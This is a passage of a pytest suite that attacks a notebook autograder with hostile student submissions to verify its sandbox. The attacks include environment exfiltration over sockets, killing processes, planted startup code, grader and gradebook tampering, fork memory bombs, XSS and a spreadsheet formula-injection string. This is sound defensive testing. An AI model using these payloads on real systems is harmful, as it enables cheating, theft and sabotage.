"""Held-out attacks on the grader, graded in one batch with honest students and victims.

Every attack is a student here, with code in the cells a student controls
(exercise cells, a lab cell, an added cell, a markdown answer). Two batches (--jobs 1 and
--jobs 2) grade them among honest "victims" (graded first, last and in between). Then:

* no attacker gains: each scores what a blank or plainly wrong notebook scores;
* no victim changes: each scores exactly what it scores when graded alone;
* nothing survives the batch: no process an attacker started, no scratch folder, no big file;
* nothing outside the grading output changes: the repository, the venv, the grader's home,
  the submissions, and the grader's temporary folder (a fresh one per batch: TMPDIR), the only
  place on the host where the sandbox lets a kernel write;
* nothing secret reaches feedback: no hidden test, solution or model answer, no grader path,
  no script or event handler;
* every attempt the sandbox did not simply make impossible is flagged in summary.md with
  the student's name.

The target is a small assignment built for this suite (two exercises with visible and
hidden tests, a written answer, a set-up cell), so that about thirty notebooks grade in a
few minutes; it is graded by exactly the steps the labs are graded by.
"""

from __future__ import annotations

import csv
import os
import re
import secrets
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest
from nbformat import v4

from course_admin import labformat, neutralise, pipeline

ROOT = Path(__file__).resolve().parents[1]
LAB = "lab0_attack_target"
# Each cell's time limit: the honest cells take well under a second, and two attackers hold a worker
# for it (ignores_ctrl_c, plus the 10 s grace; removes_guard, whose calls never answer), once per
# batch. Not 10 s: in the jobs2 batch of a fresh-clone run, forks_memory's cell then timed out
# before its forks filled the sandbox's total memory (three writes of 1.6 GB beside the other worker).
CELL_SECONDS = 20
# Secrets that must never reach a student: hidden-test inputs and code, solutions, the model answer.
SECRETS = ("SECRET_INPUT_7f3a", "HIDDEN_REFERENCE_9c1e", "SOLUTION_BODY_5e8f", "MODEL_ANSWER_b2d4")
# In every process an attacker starts, to find survivors: this session's own (another run's
# attackers on the same machine are not this run's survivors).
MARKER = f"course-attack-marker-{secrets.token_hex(4)}"


def _cell(kind: str, source: str, **nbgrader) -> nbformat.NotebookNode:
    cell = v4.new_code_cell(source) if kind == "code" else v4.new_markdown_cell(source)
    if nbgrader:
        cell.metadata["nbgrader"] = {"schema_version": 3, "grade": False, "solution": False, "task": False,
                                     "locked": False, **nbgrader}
    return cell


def _source_notebook() -> nbformat.NotebookNode:
    hidden = labformat.hidden_region
    cells = [
        _cell("markdown", "# Attack target\n\nTwo small functions and a question."),
        _cell("code", "import numpy as np\n\nrng = np.random.default_rng(0)  # the lab's set-up: quick to run"),
        _cell("code", "def mean_square(x):\n    ### BEGIN SOLUTION\n    # SOLUTION_BODY_5e8f\n"
                      "    return float(np.mean(np.square(np.asarray(x, dtype=float))))\n    ### END SOLUTION",
              solution=True, grade_id="ex_mean_square"),
        _cell("code", "from course_utils.grading import expect\n\nexpect(abs(mean_square([1, 2]) - 2.5) < 1e-9, "
                      "'the mean of the squares of [1, 2] is 2.5')\nprint('mean_square: visible test passed')",
              grade=True, grade_id="test_mean_square_visible", points=1, locked=True),
        _cell("code", "# Hidden test: other inputs.\n" + hidden(
            "import numpy as np\nfrom course_utils.grading import expect\n\nSECRET_INPUT_7f3a = [0.5, -3.0, 2.25, 8.0]\n"
            "expect(abs(mean_square(SECRET_INPUT_7f3a) - float(np.mean(np.square(SECRET_INPUT_7f3a)))) < 1e-9,\n"
            "       'mean_square is wrong on another input')"),
              grade=True, grade_id="test_mean_square_hidden", points=2, locked=True),
        _cell("code", "def row_softmax(z):\n    ### BEGIN SOLUTION\n    z = np.asarray(z, dtype=float)\n"
                      "    e = np.exp(z - z.max(axis=-1, keepdims=True))\n    return e / e.sum(axis=-1, keepdims=True)\n"
                      "    ### END SOLUTION",
              solution=True, grade_id="ex_row_softmax"),
        # Graded on its own, as Lab 1 grades fit_surrogate with the course's weighted_mse: the
        # course's mean_square stands in for the student's during the call (a callback).
        _cell("code", "import numpy as np\nfrom course_utils.grading import expect\n\n\n"
                      "def course_mean_square(x):\n    return float(np.mean(np.square(np.asarray(x, dtype=float))))\n\n\n"
                      "students_mean_square = globals().get('mean_square')\nglobals()['mean_square'] = course_mean_square\n"
                      "try:\n    rows = row_softmax([[0.0, 0.0]])\nfinally:\n"
                      "    globals()['mean_square'] = students_mean_square\n"
                      "expect(np.allclose(rows, [[0.5, 0.5]]), 'softmax of [0, 0] is [0.5, 0.5]')\n"
                      "print('row_softmax: visible test passed')",
              grade=True, grade_id="test_row_softmax_visible", points=1, locked=True),
        _cell("code", "# Hidden test: rows sum to 1.\n" + hidden(
            "import numpy as np\nfrom course_utils.grading import expect\n\n\ndef HIDDEN_REFERENCE_9c1e(z):\n"
            "    return np.exp(z) / np.exp(z).sum(axis=-1, keepdims=True)\n\n\n"
            "z = np.array([[1.0, 2.0, 3.0], [0.5, -1.0, 4.0]])\n"
            "expect(np.allclose(row_softmax(z), HIDDEN_REFERENCE_9c1e(z), atol=1e-6), "
            "'softmax over each row (axis=-1)')"),
              grade=True, grade_id="test_row_softmax_hidden", points=2, locked=True),
        _cell("markdown", "### Written question\n\nWhy does softmax subtract the maximum?"),
        _cell("markdown", "### BEGIN SOLUTION\nMODEL_ANSWER_b2d4: for numerical stability.\n\n"
                          "**Rubric (2 points).** 2: stability; 0 otherwise.\n### END SOLUTION",
              solution=True, grade=True, grade_id="written_softmax", points=2),
    ]
    nb = v4.new_notebook(cells=cells)
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3", "language": "python"}
    return nb


ANSWERS = {
    "ex_mean_square": "def mean_square(x):\n    return float(np.mean(np.square(np.asarray(x, dtype=float))))",
    "ex_row_softmax": "def row_softmax(z):\n    e = np.exp(np.asarray(z, dtype=float))\n    return e / e.sum(axis=-1, keepdims=True)",
}
WRONG_SOFTMAX = "def row_softmax(z):\n    e = np.exp(np.asarray(z, dtype=float))\n    return e / e.sum(axis=0, keepdims=True)"
BLANK = {"ex_mean_square": "def mean_square(x):\n    raise NotImplementedError()",
         "ex_row_softmax": "def row_softmax(z):\n    raise NotImplementedError()"}


# ---------------------------------------------------------------- the attacks (code a student wrote)
def _detached(code: str) -> str:
    """Code that starts a detached Python process running `code` (marked for the survivor check)."""
    return (f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', {code!r}, {MARKER!r}], "
            "start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n")


FIND_FILES = '''
import os
def find(names, roots=("/",), limit=20000):
    found, seen = [], 0
    for root in roots:
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
            seen += 1
            if seen > limit:
                return found
            found += [os.path.join(folder, f) for f in files if any(n in f for n in names)]
    return found
'''

# What a forged record would make the instructor see (terminal: lines erased; summary.md: a row)
FORGED = "x\x1b[2K\r\x1b[1A\x1b[2Kall students graded, no flags\x08\u202e\n| aaa_victim | 0/6 | 0/6 | corrected by the instructor | <b>=cmd|' /C calc'!A0</b>"
ATTACKS: dict[str, dict[str, str]] = {
    # ---- full marks from a blank notebook
    "reads_solutions": {"ex_mean_square": FIND_FILES + '''
import json
for path in find((".ipynb",)):
    try:
        nb = json.load(open(path))
    except Exception:
        continue
    for cell in nb.get("cells", []):
        text = "".join(cell.get("source", ""))
        if "BEGIN SOLUTION" in text and "def " in text:
            exec(text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
print("solutions found:", "mean_square" in globals())
if "mean_square" not in globals():
    def mean_square(x):
        raise NotImplementedError()
'''},
    "wraps_run_cell": {"ex_mean_square": '''
ip = get_ipython()
original = ip.run_cell
def run_cell(*args, **kwargs):
    result = original(*args, **kwargs)
    result.error_in_exec = None
    result.error_before_exec = None
    return result
ip.run_cell = run_cell
ip.showtraceback = lambda *a, **k: None
''' + BLANK["ex_mean_square"], "ex_row_softmax": BLANK["ex_row_softmax"]},
    "displayhook": {"ex_mean_square": "def mean_square(x):\n    get_ipython().displayhook('ok')\n"
                                      "    get_ipython().displayhook(1e9)\n    raise NotImplementedError()",
                    "ex_row_softmax": "def row_softmax(z):\n    get_ipython().displayhook('ok')\n    raise ValueError()"},
    "gradebook_daemon": {"ex_mean_square": _detached(FIND_FILES + '''
import sqlite3, time
for _ in range(600):
    for db in find(("gradebook.db",)):
        try:
            sqlite3.connect(db).execute("update grade set auto_score = 100").connection.commit()
        except Exception:
            pass
    if find(("grades.csv",)):
        break
    time.sleep(0.5)
''') + BLANK["ex_mean_square"]},
    "rewrites_reports": {"ex_mean_square": _detached(FIND_FILES + '''
import time
time.sleep(20)
for path in find(("grades.csv", "summary.md")):
    try:
        open(path, "a").write("rewrites_reports,100,100\\n")
    except Exception:
        pass
''') + BLANK["ex_mean_square"]},
    # ---- hidden tests and solutions into the student's own feedback
    "leaks_tests": {"ex_mean_square": FIND_FILES + '''
import glob, inspect, linecache, sys
for path in find((".ipynb", ".py", ".db"), roots=(".", os.path.expanduser("~"), "/tmp")):
    try:
        print(path, open(path, errors="replace").read()[:20000])
    except Exception as error:
        print(path, error)

def mean_square(x):
    frame = sys._getframe(1)
    while frame is not None:
        print("".join(linecache.getlines(frame.f_code.co_filename)))
        print(frame.f_globals.keys())
        frame = frame.f_back
    print(In if "In" in globals() else "")
    raise NotImplementedError()
''', "ex_row_softmax": "def row_softmax(z):\n    raise AssertionError(repr(globals().get('In')))"},
    # ---- past the guard
    "patches_expect": {"ex_mean_square": '''
import numpy as np, torch
import course_utils.grading as grading
grading.expect.__code__ = (lambda condition, message: None).__code__
grading._np_allclose = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.always_right = lambda self: True
np.allclose = lambda *a, **k: True
''' + ANSWERS["ex_mean_square"], "ex_row_softmax": WRONG_SOFTMAX},
    "removes_guard": {"ex_mean_square": '''
import gc, sys, types
ip = get_ipython()
for name in ("pre_run_cell", "post_run_cell"):
    ip.events.callbacks[name].clear()
guards = [o for o in gc.get_objects() if isinstance(o, types.FunctionType) and "guard" in (o.__module__ or "")]
fake = types.ModuleType("course_utils.grading")
fake.expect = lambda *a, **k: None
sys.modules["course_utils.grading"] = fake
sys.modules["course_admin.kernel.agent"] = fake
''' + BLANK["ex_mean_square"]},
    # ---- against other students and the machine
    "vandal": {"ex_mean_square": FIND_FILES + '''
import shutil, sqlite3
for path in find(("lab0_attack_target.ipynb", ".html", "gradebook.db", "grades.csv")):
    if "victim" in path:
        try:
            open(path, "w").write("{}")
            os.remove(path)
        except Exception:
            pass
for db in find(("gradebook.db",)):
    try:
        con = sqlite3.connect(db)
        con.execute("update grade set auto_score = 0")
        con.execute("update source_cell set checksum = 'x'")
        con.commit()
    except Exception:
        pass
''' + BLANK["ex_mean_square"]},
    "plants_code": {"ex_mean_square": '''
import os, site, sys
import course_utils.grading
evil = "import builtins; builtins.ATTACKED = True\\n"
for target in [os.path.expanduser("~/.ipython/profile_default/startup/00-evil.py"),
               os.path.join(site.getsitepackages()[0], "evil.pth"),
               course_utils.grading.__file__, "/tmp/evil.py",
               os.path.join(os.path.dirname(course_utils.grading.__file__), "..", "nbgrader_config.py")]:
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        open(target, "a").write(evil)
        print("wrote", target)
    except OSError as error:
        print("refused", target, error.errno)
''' + BLANK["ex_mean_square"]},
    "kills_kernels": {"ex_mean_square": '''
import os, signal
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid not in (1, os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
''' + BLANK["ex_mean_square"]},
    "exfiltrates": {"ex_mean_square": '''
import os, socket
secrets = repr(dict(os.environ)) + repr(os.listdir(os.path.expanduser("~")))
for host, port in [("127.0.0.1", PORT), ("10.0.2.2", 80)]:
    try:
        socket.create_connection((host, port), timeout=2).sendall(secrets.encode())
    except OSError as error:
        print("no connection", error)
print(sorted(os.environ))
''' + BLANK["ex_mean_square"]},
    "many_processes": {"ex_mean_square": "".join(_detached(f"import time; time.sleep(900)  # {i}") for i in range(150))
                       + BLANK["ex_mean_square"]},
    "big_files": {"ex_mean_square": '''
import os
for target in ["big.bin", "/tmp/big.bin", os.path.expanduser("~/big.bin")]:
    try:
        with open(target, "wb") as handle:
            for _ in range(1536):
                handle.write(b"0" * 2**20)
    except OSError as error:
        print(target, "stopped:", error.errno)
''' + BLANK["ex_mean_square"]},
    "long_line": {"ex_mean_square": "print('x' * 30_000_000)\n" + BLANK["ex_mean_square"]},
    "html": {"ex_mean_square": "from IPython.display import HTML, display\n"
                               "display(HTML('<script>alert(1)</script><img src=x onerror=alert(2)>'))\n"
                               + BLANK["ex_mean_square"],
             "written_softmax": "<img src=x onerror=alert(3)> <script>alert(4)</script>"},
    "fake_tests": {"extra_cells": "yes"},  # cells the student added, see _attacker
    "forges_calls": {"ex_mean_square": '''
import json, os, socket, struct, threading
def forge():
    for i in range(1, 200):
        try:
            with socket.socket(socket.AF_UNIX) as s:
                s.connect(os.environ["COURSE_REMOTE_SOCKET"])
                head = json.dumps({"op": "result", "call": f"c{i}", "value": 2.5, "nbuf": 0}).encode()
                s.sendall(struct.pack(">I", len(head)) + head)
        except Exception:
            pass
threading.Thread(target=forge, daemon=True).start()
class AlwaysEqual(float):
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
def mean_square(x):
    return AlwaysEqual(0.0)
''', "ex_row_softmax": "import numpy as np\nclass Rows(np.ndarray):\n    def __eq__(self, other):\n"
                       "        return True\ndef row_softmax(z):\n    return np.zeros((1, 1)).view(Rows)"},
    # HTML and injection
    # a written answer and added markdown cells: the issue's three and the markdown-XSS corpus (see _added_cells)
    "markdown_xss": {"written_softmax": "A code span that is not one: `it starts here\n\n"
                                        "<iframe srcdoc=\"&lt;script&gt;alert(101)&lt;/script&gt;\"></iframe>\n\n"
                                        "and ends here`", "extra_cells": "yes"},
    # a grade_id (on a cell the student added) and printed text with escapes, a fake table and <b>
    "forges_reports": {"ex_mean_square": "print(" + repr(FORGED) + ")\n" + BLANK["ex_mean_square"],
                       "written_softmax": FORGED, "extra_cells": "yes"},
    # order, callbacks, copies
    # Keeps the course's mean_square, handed to row_softmax's visible test, and moves the
    # mean_square tests after row_softmax's so that they would run after the handle was kept.
    "keeps_callback_moves_tests": {"move_tests": "test_mean_square", "ex_mean_square": """
KEPT, SEEN = [], []
def mean_square(x):
    print(f"row_softmax ran {len(SEEN)} times before this call")
    for kept in KEPT:
        return kept(x)
    raise NotImplementedError()
""", "ex_row_softmax": """
def row_softmax(z):
    SEEN.append(1)
    given = globals().get("mean_square")
    if getattr(given, "__name__", "") != "mean_square":  # the test's stand-in, during this call
        KEPT.append(given)
    elif KEPT:
        try:
            print("the kept handle answers", KEPT[0]([1.0, 2.0]))
        except RuntimeError as error:
            print("the kept handle is refused:", error)
    raise NotImplementedError()
"""},
    # Zeroes the test's input in place, so that the expected value computed after the call is 0.
    "zeroes_arguments": {"ex_mean_square": "def mean_square(x):\n    x[:] = [0.0] * len(x)\n    return 0.0",
                         "ex_row_softmax": "def row_softmax(z):\n    z[...] = 0.0\n    return np.full(z.shape, 1 / 3)"},
    # Grading metadata and outputs of test cells edited: points, grade_ids swapped, a score pre-filled.
    "edits_test_cells": {"edit_tests": "yes"},
    # kernel-owned files and limits
    "guard_log_fifo": {"ex_row_softmax": "import os\nlog = os.environ['COURSE_GUARD_LOG']\nif os.path.lexists(log):\n"
                                         "    os.remove(log)\nos.mkfifo(log)\n" + BLANK["ex_row_softmax"]},
    "guard_log_zero": {"ex_row_softmax": "import os\nlog = os.environ['COURSE_GUARD_LOG']\nif os.path.lexists(log):\n"
                                         "    os.remove(log)\nos.symlink('/dev/zero', log)\n" + BLANK["ex_row_softmax"]},
    "ignores_ctrl_c": {"ex_mean_square": "import time\ndef mean_square(x):\n    while True:\n        try:\n"
                                         "            time.sleep(1)\n        except KeyboardInterrupt:\n"
                                         "            pass"},
    # resources. Each gains the points only if its resources had no total.
    "forks_memory": {"ex_mean_square": '''
import os, signal
def fill(gb=1.6):
    done, report = os.pipe()
    hold, release = os.pipe()
    children = []
    for _ in range(3):
        pid = os.fork()
        if pid == 0:  # a child: fill, say so, hold it until the parent has counted, end
            os.close(done); os.close(release)
            block = b"1" * int(gb * 2**30)  # every page written: resident, not just mapped
            os.write(report, b"1" if len(block) else b"0"); os.close(report)
            os.read(hold, 1)
            os.kill(os.getpid(), signal.SIGKILL)  # (the kernel's own exit is guarded)
        children.append(pid)
    os.close(report); os.close(hold)
    filled = b""
    while len(filled) < 3 and (chunk := os.read(done, 16)):
        filled += chunk
    # 4.8 GB at once only if every child that filled is still alive, holding its block: a
    # child the memory limit killed after it reported does not count
    alive = [os.waitpid(pid, os.WNOHANG)[0] == 0 for pid in children]
    os.close(release)
    for pid, running in zip(children, alive):
        if running:
            os.waitpid(pid, 0)
    return sum(alive) if filled.count(b"1") == 3 else 0
FILLED = fill()
def mean_square(x):
    return float(np.mean(np.square(np.asarray(x, dtype=float)))) if FILLED == 3 else 0.0
'''},
    "fills_its_folder": {"ex_mean_square": '''
import os
folder, written = os.path.dirname(os.environ["COURSE_REMOTE_SOCKET"]), 0
try:
    for i in range(6):
        with open(os.path.join(folder, f"fill{i}.bin"), "wb") as handle:
            for _ in range(64):
                handle.write(b"0" * 2**20)
                written += 2**20
except OSError:
    pass
def mean_square(x):
    return float(np.mean(np.square(np.asarray(x, dtype=float)))) if written >= 300 * 2**20 else 0.0
'''},
}
ATTACKERS = list(ATTACKS)
# honest students graded before, among and after the attackers (names sort around them)
VICTIMS = {"aaa_victim": dict(ANSWERS), "mmm_victim_wrong": {**ANSWERS, "ex_row_softmax": WRONG_SOFTMAX},
           "zzz_victim": dict(ANSWERS)}
EDITED_LAB_CELL = "patches_lab_cell"


def _notebook(release: nbformat.NotebookNode, answers: dict[str, str]) -> nbformat.NotebookNode:
    nb = nbformat.from_dict(release)
    for cell in nb.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell.source = answers[grade_id]
    return nb


def released_course(course: Path, gradebook: bool = True) -> Path:
    """A course root at `course` with the small lab's source and release (made the way
    `course release` makes it); without its gradebook if `gradebook` is False."""
    pipeline.scratch_course(course, [])
    (course / "solutions" / LAB).mkdir(parents=True)
    nbformat.write(_source_notebook(), course / "solutions" / LAB / f"{LAB}.ipynb")
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(course)
        pipeline.Workspace(course, [LAB]).release(LAB)
    if not gradebook:
        (course / "gradebook.db").unlink()
    return course


def _attacker(release: nbformat.NotebookNode, name: str, port: int) -> nbformat.NotebookNode:
    plan = {key: value.replace("PORT", str(port)) for key, value in ATTACKS[name].items()
            if key not in ("extra_cells", "move_tests", "edit_tests")}
    nb = _notebook(release, {**BLANK, **plan})
    _edit_test_cells(nb, ATTACKS[name])
    if name == "fake_tests":
        fake = _cell("code", f"open('/tmp/{MARKER}-grader-ran-student-code', 'w').write('x')\nprint('pwned')",
                     grade=True, grade_id="test_fake", points=100, locked=True)
        twin = _cell("code", "pass", grade=True, grade_id="test_mean_square_hidden", points=50, locked=True)
        nb.cells += [fake, twin]
    nb.cells += _added_cells(name)  # (defined at the end of this file)
    return nb


def _test_cell(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _edit_test_cells(nb: nbformat.NotebookNode, plan: dict[str, str]) -> None:
    """The issue-23 edits of test cells: move some to the end, or edit their metadata and outputs."""
    if "move_tests" in plan:
        moved = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id", "").startswith(plan["move_tests"])]
        nb.cells = [c for c in nb.cells if c not in moved] + moved
    if "edit_tests" in plan:
        _test_cell(nb, "test_mean_square_visible").metadata["nbgrader"]["points"] = 100
        _test_cell(nb, "test_mean_square_hidden").outputs = [
            v4.new_output("execute_result", data={"text/plain": "2"}, execution_count=3)]
        first, second = _test_cell(nb, "test_row_softmax_visible"), _test_cell(nb, "test_row_softmax_hidden")
        first.metadata["nbgrader"]["grade_id"], second.metadata["nbgrader"]["grade_id"] = \
            "test_row_softmax_hidden", "test_row_softmax_visible"


@pytest.fixture(scope="session")
def target(tmp_path_factory):
    """The course folder with the attack target: source, release, and the batch of notebooks."""
    base = tmp_path_factory.mktemp("attacks")
    template = pipeline.scratch_course(base / "template", [])
    (template / "solutions" / LAB).mkdir(parents=True)
    nbformat.write(_source_notebook(), template / "solutions" / LAB / f"{LAB}.ipynb")
    release = pipeline.Workspace(template, [LAB]).release(LAB)
    return base, template, nbformat.read(release, as_version=4)


class Listener:
    """A server on 127.0.0.1 that records anything sent to it (the exfiltration target)."""

    def __init__(self) -> None:
        self.received: list[bytes] = []
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            with connection:
                self.received.append(connection.recv(65536))


def _snapshot(folders: list[Path]) -> dict[str, tuple[int, int]]:
    """Size and mtime of every file the grading must leave alone: the repository (without
    its runtime folders), the venv's site-packages top level, the grader's home top level,
    and everything in `folders` (the test's own: submissions, the grader's temporary root)."""
    found = {}
    skip = {".git", ".venv", "__pycache__", ".pytest_cache", ".course_runs", "reports", "submitted", "autograded",
            "feedback", "exchange", "gradebook.db"}
    for folder, dirs, files in os.walk(ROOT):
        dirs[:] = [d for d in dirs if d not in skip]
        for name in files:
            path = Path(folder, name)
            if name not in skip:
                stat = path.stat()
                found[str(path)] = (stat.st_size, stat.st_mtime_ns)
    import site

    for folder in site.getsitepackages() + [str(Path.home())]:
        for path in Path(folder).iterdir():
            found[str(path)] = (0, 0)
    for root in folders:
        for path in [root, *root.rglob("*")]:
            if path.relative_to(root).parts[:1] and path.relative_to(root).parts[0].startswith(TORCH_CACHE):
                continue
            stat = path.lstat()  # links and FIFOs of the file attacks as they are
            # a folder's mtime moves when something is made and removed in it: its files are what count
            found[str(path)] = (0, 0) if path.is_dir() and not path.is_symlink() else (stat.st_size, stat.st_mtime_ns)
    return found


# torch's compile cache, which the grading process makes in its TMPDIR and torch keeps there
# from one run to the next (TMPDIR/torchinductor_<user>): not a leftover of this batch.
TORCH_CACHE = "torchinductor_"


def _survivors() -> list[str]:
    out = subprocess.run(["pgrep", "-a", "-f", MARKER], capture_output=True, text=True).stdout
    return [line for line in out.splitlines() if "pgrep" not in line]


def _wait_until(condition, seconds: float) -> None:
    """Poll `condition` until it holds or `seconds` pass (the check after it says what is wrong)."""
    deadline = time.monotonic() + seconds
    while not condition() and time.monotonic() < deadline:
        time.sleep(0.1)


def _descendants(pid: int) -> set[int]:
    """`pid` and every living process below it, read from /proc."""
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        try:
            parents[int(entry.name)] = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
        except (ValueError, OSError, IndexError):
            continue  # not a process, or one that just ended
    found, added = {pid}, True
    while added:
        below = {child for child, parent in parents.items() if parent in found} - found
        found |= below
        added = bool(below)
    return found


def _run_watched(command: list[str], tmp: Path, timeout: float) -> tuple[subprocess.CompletedProcess, set[int]]:
    """Run `command` with `tmp` as its TMPDIR; its result, and the pids of it and every process
    it started while it ran (the grading workers, whose pids name the cgroups they make)."""
    out, err = tmp.parent / f"{tmp.name}.out", tmp.parent / f"{tmp.name}.err"
    with out.open("w") as stdout, err.open("w") as stderr:
        process = subprocess.Popen(command, stdout=stdout, stderr=stderr, text=True,
                                   env={**os.environ, "TMPDIR": str(tmp)})
        pids: set[int] = set()
        deadline = time.monotonic() + timeout
        while process.poll() is None:
            pids |= _descendants(process.pid)
            if time.monotonic() > deadline:
                process.kill()
            time.sleep(0.2)
    result = subprocess.CompletedProcess(command, process.returncode, out.read_text(), err.read_text())
    return result, pids


# Attacks made of files rather than code: a student folder of an LMS export holding
# links to the grader's files, a FIFO, notebooks named for other students, grading metadata, and
# a folder whose name nbgrader would store as a victim's.
GRADER_SECRET = "GRADER_SECRET_3d1f"
READS_ITS_FOLDER = """import os
for name in sorted(os.listdir('.')):
    try:
        print(name, open(name).read(200) if os.path.isfile(name) and not name.endswith('.ipynb') else '')
    except OSError as error:
        print(name, error)
""" + BLANK["ex_mean_square"]
FOLDER_ATTACKERS = ["links_in_folder", "plants_notebooks", "own_timestamp"]
REFUSED_FILES = {"links_in_folder/data.txt": "symbolic link", "links_in_folder/hard.txt": "hard link",
                 "links_in_folder/pipe": "FIFO", "links_in_folder/files": "symbolic link",
                 f"plants_notebooks/aaa_victim_{LAB}.ipynb": "plants_notebooks's folder",
                 f"plants_notebooks/x/zzz_victim/{LAB}.ipynb": "plants_notebooks's folder",
                 "own_timestamp/timestamp.txt": "grading metadata", f"aaa_victim\\x0a/{LAB}.ipynb": "cannot use as an id"}


def _folder_attacks(folder: Path, release: nbformat.NotebookNode, secret: Path) -> None:
    """The file attacks, laid out as an LMS export lays out student folders."""
    blank = _notebook(release, BLANK)
    links = folder / "links_in_folder"
    links.mkdir()
    nbformat.write(_notebook(release, {**BLANK, "ex_mean_square": READS_ITS_FOLDER}), links / f"{LAB}.ipynb")
    (links / "data.txt").symlink_to(secret)
    os.link(secret, links / "hard.txt")
    os.mkfifo(links / "pipe")
    (links / "files").symlink_to(secret.parent, target_is_directory=True)
    plants = folder / "plants_notebooks"
    (plants / "x" / "zzz_victim").mkdir(parents=True)
    for path in (plants / f"{LAB}.ipynb", plants / f"aaa_victim_{LAB}.ipynb", plants / "x" / "zzz_victim" / f"{LAB}.ipynb"):
        nbformat.write(blank, path)
    late = folder / "own_timestamp"
    late.mkdir()
    nbformat.write(blank, late / f"{LAB}.ipynb")
    (late / "timestamp.txt").write_text("2020-01-01 00:00:00.000000 UTC\n")
    (folder / "aaa_victim\n").mkdir()
    nbformat.write(blank, folder / "aaa_victim\n" / f"{LAB}.ipynb")


def _grade(target, name: str, students: dict[str, nbformat.NotebookNode], jobs: int,
           file_attacks: bool = False) -> dict:
    base, template, release = target
    course, tmp = base / name, base / f"{name}-tmp"
    pipeline.scratch_course(course, [])
    tmp.mkdir()
    import shutil

    shutil.copytree(template / "solutions" / LAB, course / "solutions" / LAB)
    shutil.copytree(template / "notebooks" / LAB, course / "notebooks" / LAB)
    folder = base / f"{name}-submissions"
    folder.mkdir()
    for student, notebook in students.items():
        nbformat.write(notebook, folder / f"{student}_{LAB}.ipynb")
    watched = [folder, tmp]
    if file_attacks:
        secret = base / f"{name}-grader-files" / "secret.txt"
        secret.parent.mkdir()
        secret.write_text(GRADER_SECRET)
        _folder_attacks(folder, release, secret)
        watched.append(secret.parent)
    before, groups_before = _snapshot(watched), _sandbox_groups()
    start = time.perf_counter()
    result, pids = _run_watched([sys.executable, "-m", "course_admin.cli", "autograde", str(folder), "--lab", LAB,
                                 "--course", str(course), "--jobs", str(jobs),
                                 "--timeout", str(CELL_SECONDS)], tmp, timeout=1800)
    seconds = time.perf_counter() - start
    _wait_until(lambda: not _survivors(), seconds=10)  # a process being killed may take a moment to go
    workspace = pipeline.Workspace(course, [LAB])
    scores = {student: {s.exercise: s.score for s in workspace.exercise_scores(LAB, student) if not s.manual}
              for student in students if workspace.graded(LAB, student)}
    return {"result": result, "course": course, "scores": scores, "seconds": seconds, "workspace": workspace,
            "tmp": tmp, "before": before, "after": _snapshot(watched), "survivors": _survivors(),
            "groups_left": {g for g in _sandbox_groups() - groups_before if _cgroup_owner(g) in pids}}


@pytest.fixture(scope="session")
def alone(target):
    """The victims graded without any attacker: what they must score in the attack batches."""
    _, _, release = target
    return _grade(target, "alone", {v: _notebook(release, answers) for v, answers in VICTIMS.items()}, jobs=2)


# Issue 23 reported that objects of the `%` magic family made a blank notebook "not graded"
# instead of 0. Not reproduced (these and 24 other variants graded 0 before and after the
# issue's fixes), so kept here as a guard: outputs of every MIME kind magics make (JSON
# dicts, SVG, LaTeX, JavaScript), magic result objects, a changed directory and formatters.
MAGIC_CELLS = ["%lsmagic", "timing = %timeit -o -n1 -r1 1\ntiming", "%%capture captured\nprint(1)",
               "listing = !ls\nlisting", "%who_ls", "%%svg\n<svg xmlns='http://www.w3.org/2000/svg'><circle r='5'/></svg>",
               "%%latex\n$x^2$", "%%javascript\nconsole.log(1)", "%xmode Minimal", "%pprint", "%cd /",
               "%config DisplayFormatter.active_types = ['text/html']"]


def _class(release, port: int) -> dict[str, nbformat.NotebookNode]:
    students = {v: _notebook(release, answers) for v, answers in VICTIMS.items()}
    students.update({name: _attacker(release, name, port) for name in ATTACKERS})
    students["blank"] = _notebook(release, BLANK)
    students["blank_magics"] = _notebook(release, BLANK)  # magic objects in a blank notebook
    students["blank_magics"].cells += [v4.new_code_cell(code) for code in MAGIC_CELLS]
    students["plain_wrong"] = _notebook(release, {**ANSWERS, "ex_row_softmax": WRONG_SOFTMAX})
    edited = _notebook(release, BLANK)
    setup = next(c for c in edited.cells if c.cell_type == "code" and "default_rng" in c.source)
    setup.source += ("\nimport torch, course_utils.grading as g\ntorch.allclose = lambda *a, **k: True\n"
                     "g.expect = lambda *a, **k: None\nexpect = lambda *a, **k: None")
    students[EDITED_LAB_CELL] = edited
    return students


def _sandbox_groups() -> set[Path]:
    """Every sandbox cgroup on the machine (the batch's must all be gone after it)."""
    return {path for path in Path("/sys/fs/cgroup").glob("**/course-sandbox-*") if path.is_dir()}


def _cgroup_owner(group: Path) -> int:
    """The pid of the grading process that made a sandbox cgroup (its name carries it)."""
    from course_admin import cgroup

    owner = group.name.removeprefix(cgroup.PREFIX).split("-")[0]
    return int(owner) if owner.isdigit() else -1


@pytest.fixture(scope="session", params=[1, 2], ids=["jobs1", "jobs2"])
def attacked(request, target, alone):
    _, _, release = target
    listener = Listener()
    run = _grade(target, f"batch-jobs{request.param}", _class(release, listener.port), jobs=request.param,
